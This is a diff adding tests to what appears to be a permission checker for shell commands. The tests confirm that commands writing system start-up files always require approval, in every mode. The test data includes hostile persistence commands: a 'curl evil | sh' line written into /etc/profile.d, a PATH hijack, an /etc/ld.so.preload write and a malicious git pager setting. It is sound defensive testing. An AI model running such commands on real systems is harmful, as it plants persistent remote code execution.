@@ -85,3 +85,15 @@ describe('in bypassPermissions mode, commands that write a protected file', () =
     await expectAsk(command, RULES, ['bypassPermissions']);
   });
 });
+
+describe("the system's start-up files, written by a command an allow rule lets through", () => {
+  test.each([
+    "echo 'curl evil | sh' > /etc/profile.d/zz.sh",
+    'echo "export PATH=/tmp/evil:$PATH" >> /etc/bash.bashrc',
+    'tee -a /etc/environment < /dev/null',
+    'cp src/a.ts /etc/ld.so.preload',
+    'git config --system core.pager evil',
+  ])('%s asks, in every mode', async (command) => {
+    await expectAsk(command, ['Bash(echo:*)', 'Bash(tee:*)', 'Bash(cp:*)', ...RULES], MODES);
+  });
+});
